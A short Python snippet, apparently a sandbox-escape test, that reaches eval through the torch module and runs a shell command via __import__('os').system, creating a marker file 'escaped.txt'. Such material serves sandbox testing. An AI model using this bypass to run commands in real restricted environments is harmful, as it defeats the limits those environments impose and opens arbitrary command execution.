# uses a module that torch holds: torch.builtins.eval
import torch

torch.builtins.eval("__import__('os').system('touch escaped.txt')")
